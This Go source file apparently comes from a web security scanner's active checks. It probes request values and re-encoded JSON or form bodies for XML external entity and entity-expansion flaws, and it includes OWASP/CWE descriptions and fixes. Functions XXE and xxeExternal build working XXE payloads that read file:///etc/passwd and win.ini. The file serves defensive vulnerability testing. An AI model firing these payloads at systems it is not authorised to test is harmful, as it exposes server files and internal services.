package active

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httputil"
	"regexp"
	"sort"
	"strings"
)

var xxeInfo = map[string]Info{
	"xxe": {
		Title:    "XML external entity (XXE)",
		Severity: "high",
		CWE:      611,
		OWASP:    "A05:2021-Security Misconfiguration",
		Description: "An XML document sent to the server declared an external entity pointing at a system file, " +
			"and the response showed the file, while an entity pointing at a missing file showed nothing of " +
			"it: the XML parser resolves external entities. An attacker can read files, reach internal " +
			"services from the server (SSRF) and exhaust its memory.",
		Fix: "Disable DTDs (doctype declarations) in the XML parser, or at least external entities and " +
			"external DTDs; accept JSON instead of XML where possible.",
		References: []string{
			"https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",
			"https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
			"https://cwe.mitre.org/data/definitions/611.html",
		},
	},
	"xml.entities": {
		Title:    "XML entity expansion",
		Severity: "medium",
		CWE:      776,
		OWASP:    "A05:2021-Security Misconfiguration",
		Description: "An XML document sent to the server declared entities in its DTD, and the response showed " +
			"them expanded: the parser processes DTDs. Nested entities can blow a small document up into " +
			"gigabytes (billion laughs), and the same parser may resolve external entities where the " +
			"scanner could not see it.",
		Fix: "Disable DTDs (doctype declarations) in the XML parser; if they are needed, disable external " +
			"entities and limit entity expansion.",
		References: []string{
			"https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
			"https://cwe.mitre.org/data/definitions/776.html",
		},
	},
}

// xxeBuilder makes the request of an XML probe: the document with a DTD
// (decl, the entity declarations) and ref where the point's value was.
type xxeBuilder struct {
	where string // for reports: "the value" or "an XML body"
	build func(ctx context.Context, decl, ref string) (*http.Request, error)
}

var (
	xxeTagRE  = regexp.MustCompile(`<([A-Za-z_][\w:.-]*)[^>]*>`)
	xxeTextRE = regexp.MustCompile(`>([^<>]*[^<>\s][^<>]*)<`)
	xxeDeclRE = regexp.MustCompile(`^\s*<\?xml[^>]*\?>\s*(?:<!DOCTYPE[^>\[]*(?:\[[\s\S]*?\])?\s*>\s*)?`)
)

// xxeDocument rewrites the XML doc: a declaration and a DTD with decl,
// and ref in place of the first text (or as the root's first child).
func xxeDocument(doc, decl, ref string) string {
	doc = xxeDeclRE.ReplaceAllString(doc, "")
	root := "root"
	if m := xxeTagRE.FindStringSubmatchIndex(doc); m != nil {
		root = doc[m[2]:m[3]]
		if loc := xxeTextRE.FindStringSubmatchIndex(doc); loc != nil {
			doc = doc[:loc[2]] + ref + doc[loc[3]:]
		} else if !strings.HasSuffix(doc[m[0]:m[1]], "/>") {
			doc = doc[:m[1]] + ref + doc[m[1]:]
		} else {
			doc = "<" + root + ">" + ref + "</" + root + ">"
		}
	} else {
		doc = "<" + root + ">" + ref + "</" + root + ">"
	}
	return `<?xml version="1.0" encoding="UTF-8"?>` + "\n<!DOCTYPE " + root + " [" + decl + "]>\n" + doc
}

// xxeName makes a JSON key or form field an XML element name.
func xxeName(k string) string {
	var b strings.Builder
	for i, c := range k {
		ok := c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || i > 0 && (c >= '0' && c <= '9' || c == '-' || c == '.')
		if ok {
			b.WriteRune(c)
		} else {
			b.WriteByte('_')
		}
	}
	if b.Len() == 0 {
		return "item"
	}
	return b.String()
}

var xxeEscaper = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;")

func xxeEscape(s string) string { return xxeEscaper.Replace(s) }

// xxeFromJSON writes v as XML elements, with ref at path.
func xxeFromJSON(b *strings.Builder, v any, path []string, at string, ref string) {
	here := strings.Join(path, ".")
	switch t := v.(type) {
	case map[string]any:
		keys := make([]string, 0, len(t))
		for k := range t {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			n := xxeName(k)
			b.WriteString("<" + n + ">")
			xxeFromJSON(b, t[k], append(path[:len(path):len(path)], k), at, ref)
			b.WriteString("</" + n + ">")
		}
	case []any:
		for i, e := range t {
			b.WriteString("<item>")
			xxeFromJSON(b, e, append(path[:len(path):len(path)], fmt.Sprint(i)), at, ref)
			b.WriteString("</item>")
		}
	default:
		if here == at {
			b.WriteString(ref)
		} else if v != nil {
			b.WriteString(xxeEscape(fmt.Sprint(v)))
		}
	}
}

// xxeBody is the point's JSON or form body as XML, with ref for the
// point's value. A JSON object with a single object inside names the root
// after its key ({"comment": {...}}), as XML bindings do.
func xxeBody(p Point, ref string) (root, body string) {
	var b strings.Builder
	root = "root"
	switch {
	case p.Body != nil:
		v, path := p.Body, []string(nil)
		if m, ok := v.(map[string]any); ok && len(m) == 1 {
			for k, e := range m {
				if _, ok := e.(map[string]any); ok {
					root, v, path = xxeName(k), e, []string{k}
				}
			}
		}
		xxeFromJSON(&b, v, path, p.Name, ref)
	case p.Form != nil:
		for _, k := range sortedKeys(p.Form) {
			n := xxeName(k)
			b.WriteString("<" + n + ">")
			if k == p.Name {
				b.WriteString(ref)
			} else {
				b.WriteString(xxeEscape(p.Form.Get(k)))
			}
			b.WriteString("</" + n + ">")
		}
	}
	return root, "<" + root + ">" + b.String() + "</" + root + ">"
}

// xxeBuilders are the probes a point allows: XML in the value itself,
// and the request's JSON or form body sent as XML instead (many
// frameworks bind both).
func xxeBuilders(p Point) []xxeBuilder {
	var bs []xxeBuilder
	if strings.HasPrefix(strings.TrimSpace(p.Value), "<") {
		bs = append(bs, xxeBuilder{"the value", func(ctx context.Context, decl, ref string) (*http.Request, error) {
			return p.Request(ctx, xxeDocument(p.Value, decl, ref))
		}})
	}
	bodied := p.Method == http.MethodPost || p.Method == http.MethodPut || p.Method == http.MethodPatch
	if bodied && (p.Kind == JSON && p.Body != nil || p.Kind == Form && p.Form != nil) {
		bs = append(bs, xxeBuilder{"the body sent as XML", func(ctx context.Context, decl, ref string) (*http.Request, error) {
			req, err := p.Request(ctx, p.Value)
			if err != nil {
				return nil, err
			}
			root, body := xxeBody(p, ref)
			doc := []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n<!DOCTYPE " + root + " [" + decl + "]>\n" + body)
			req.Body = io.NopCloser(bytes.NewReader(doc))
			req.ContentLength = int64(len(doc))
			req.GetBody = func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(doc)), nil }
			req.Header.Set("Content-Type", "application/xml")
			return req, nil
		}})
	}
	return bs
}

func xxeSend(ctx context.Context, s Sender, b xxeBuilder, decl, ref string) (*Response, error) {
	req, err := b.build(ctx, decl, ref)
	if err != nil {
		return nil, err
	}
	return s.Send(ctx, req)
}

func xxeExcerpt(ctx context.Context, b xxeBuilder, decl, ref string) string {
	req, err := b.build(ctx, decl, ref)
	if err != nil {
		return ""
	}
	d, err := httputil.DumpRequestOut(req, true)
	if err != nil {
		return req.Method + " " + req.URL.String()
	}
	return clip(string(d), 2*excerptLen)
}

// xxeFile is a file an external entity reads, and a missing one.
type xxeFile struct{ url, missing string }

// XXE tests one point for XML external entities where XML is accepted:
// XML in the value, or the JSON or form body of a POST, PUT or PATCH
// sent as application/xml. The safe probe declares two internal entities
// and refers to both: their texts side by side in the response (which no
// echo of the document shows) mean the parser expands entities. Then an
// external entity reads file:///etc/passwd and win.ini, reported as xxe
// when the file's signature shows, the original response lacks it and an
// entity naming a missing file shows nothing of it. Expansion without a
// file read is reported as xml.entities, confirmed by a second pair of
// entities. It returns at most one Result.
func XXE(ctx context.Context, s Sender, p Point, opt Options) ([]Result, error) {
	bs := xxeBuilders(p)
	if len(bs) == 0 {
		return nil, nil
	}
	_, orig, err := send(ctx, s, p, p.Value)
	if err != nil {
		return nil, err
	}
	origKind, _ := travEvidence(orig.Body)
	for _, b := range bs {
		a, c := opt.randWord(6), opt.randWord(6)
		t1, t2 := "rmp"+opt.randWord(6), opt.randWord(7)
		decl := fmt.Sprintf(`<!ENTITY %s "%s"><!ENTITY %s "%s">`, a, t1, c, t2)
		ref := "&" + a + ";&" + c + ";"
		r, err := xxeSend(ctx, s, b, decl, ref)
		if err != nil {
			if ctx.Err() != nil {
				return nil, ctx.Err()
			}
			continue
		}
		if !bytes.Contains(r.Body, []byte(t1+t2)) {
			continue
		}
		w := "rmp" + opt.randWord(8)
		for _, f := range []xxeFile{
			{"file:///etc/passwd", "file:///etc/" + w + "/passwd"},
			{"file:///c:/windows/win.ini", "file:///c:/windows/" + w + "/win.ini"},
		} {
			res, err := xxeExternal(ctx, s, p, b, f, opt, origKind)
			if err != nil || res != nil {
				return injOne(res), err
			}
		}
		// Expansion alone: a second pair confirms it.
		e1, e2 := opt.randWord(5), opt.randWord(5)
		u1, u2 := "rmp"+opt.randWord(5), opt.randWord(8)
		decl2 := fmt.Sprintf(`<!ENTITY %s "%s"><!ENTITY %s "%s">`, e1, u1, e2, u2)
		r2, err := xxeSend(ctx, s, b, decl2, "&"+e1+";&"+e2+";")
		if err != nil && ctx.Err() != nil {
			return nil, ctx.Err()
		}
		return []Result{{
			Check: "xml.entities", Point: p, Payload: decl, Confirmed: err == nil && bytes.Contains(r2.Body, []byte(u1+u2)),
			Detail: fmt.Sprintf("%s: entities declared in the DTD came back expanded (%s%s); no external entity showed a file",
				b.where, t1, t2),
			Request:  xxeExcerpt(ctx, b, decl, ref),
			Response: responseExcerpt(r, t1+t2),
		}}, nil
	}
	return nil, nil
}

func xxeExternal(ctx context.Context, s Sender, p Point, b xxeBuilder, f xxeFile, opt Options, origKind string) (*Result, error) {
	ent := opt.randWord(6)
	decl := fmt.Sprintf(`<!ENTITY %s SYSTEM "%s">`, ent, f.url)
	ref := "&" + ent + ";"
	r, err := xxeSend(ctx, s, b, decl, ref)
	if err != nil {
		return nil, ctx.Err()
	}
	kind, mark := travEvidence(r.Body)
	if kind == "" || kind == origKind {
		return nil, nil
	}
	missDecl := fmt.Sprintf(`<!ENTITY %s SYSTEM "%s">`, ent, f.missing)
	miss, err := xxeSend(ctx, s, b, missDecl, ref)
	if err != nil && ctx.Err() != nil {
		return nil, ctx.Err()
	}
	if err == nil {
		if k, _ := travEvidence(miss.Body); k == kind {
			return nil, nil
		}
	}
	return &Result{
		Check: "xxe", Point: p, Payload: decl, Confirmed: err == nil,
		Detail: fmt.Sprintf("%s: an external entity for %s showed %s, which the original response does not, and one for %s did not",
			b.where, f.url, kind, f.missing),
		Request:  xxeExcerpt(ctx, b, decl, ref),
		Response: responseExcerpt(r, mark),
	}, nil
}
